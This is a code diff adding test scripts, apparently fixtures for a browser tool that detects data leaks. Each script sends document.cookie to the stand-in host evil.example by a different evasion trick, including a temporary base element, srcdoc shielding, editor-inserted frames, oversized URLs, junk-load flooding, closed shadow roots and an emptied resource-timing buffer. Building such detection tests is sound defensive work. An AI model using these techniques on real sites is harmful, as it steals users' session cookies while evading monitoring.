@@ -1558,6 +1558,41 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(object);
   object.data = 'https://evil.example/frame-object.html#' + encodeURIComponent(document.cookie);
 })();`,
+  'stranger-frame-base': `(() => {
+  // A <base> makes the frame's relative address a stranger's, and goes again.
+  const base = document.createElement('base');
+  base.href = 'https://evil.example/';
+  document.head.append(base);
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.src = 'frame-base.html#' + encodeURIComponent(document.cookie);
+  document.body.appendChild(frame);
+  base.remove();
+})();`,
+  'stranger-frame-shielded': `(() => {
+  // A srcdoc shows instead of the src, until it is taken away (no hook sees an attribute removed).
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.srcdoc = '.';
+  frame.src = 'https://evil.example/frame-shielded.html#' + encodeURIComponent(document.cookie);
+  document.body.appendChild(frame);
+  setTimeout(() => frame.removeAttribute('srcdoc'), 300);
+})();`,
+  'stranger-frame-srcdoc': `(() => {
+  // The stranger's frame made by a srcdoc frame's own parser.
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  document.body.appendChild(frame);
+  frame.srcdoc = '<iframe src="https://evil.example/frame-srcdoc.html#' + encodeURIComponent(document.cookie) + '"></iframe>';
+})();`,
+  'stranger-frame-editor': `(() => {
+  // Put at the caret of an editable part of the page.
+  const editor = document.createElement('div');
+  editor.contentEditable = 'true';
+  document.body.append(editor);
+  editor.focus();
+  document.execCommand('insertHTML', false, '<iframe src="https://evil.example/frame-editor.html#' + encodeURIComponent(document.cookie) + '"></iframe>');
+})();`,
   'stranger-frame-embed': `(() => {
   const embed = document.createElement('embed');
   embed.type = 'text/html';
@@ -1592,6 +1627,29 @@ export const MAIN_WORLD_SCRIPTS = {
   Object.defineProperty(win.PerformanceEntry.prototype, 'name', { get: () => 'about:blank' });
   Object.defineProperty(win, 'performance', { value: {} });
   blinded.srcdoc = '<img src="' + at('f-blinded-img.gif') + '">';
+  // The cookie past 4 KB of address.
+  frame('<img src="https://evil.example/f-long.gif?p=' + 'A'.repeat(4200) + '&c=' + encodeURIComponent(document.cookie) + '">');
+  // 300 loads of nothing first, then the one that matters.
+  const flooded = frame('.');
+  flooded.addEventListener('load', () => {
+    const doc = flooded.contentDocument;
+    for (let i = 0; i < 300; i++) {
+      const junk = doc.createElement('div');
+      junk.style.background = 'url("https://evil.example/f-junk-' + i + '.gif")';
+      junk.textContent = '.';
+      doc.body.append(junk);
+    }
+    setTimeout(() => (doc.body.style.background = 'url("' + at('f-flood.gif') + '")'), 300);
+  });
+  // A frame in a closed shadow root, given its srcdoc once it is in: its next realm loads where no document hears it.
+  const host = document.createElement('div');
+  document.body.append(host);
+  const shadowed = document.createElement('iframe');
+  shadowed.width = shadowed.height = '1';
+  host.attachShadow({ mode: 'closed' }).append(shadowed);
+  setTimeout(() => (shadowed.srcdoc = '<img src="' + at('f-shadow.gif') + '">'), 100);
+  // The frame's new timeline shrunk to nothing by its own first script (Firefox gives the reused window a new one).
+  frame('<script>performance.setResourceTimingBufferSize(0)<\\/script><img src="' + at('f-unbuffered.gif') + '">');
 })();`,
 
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
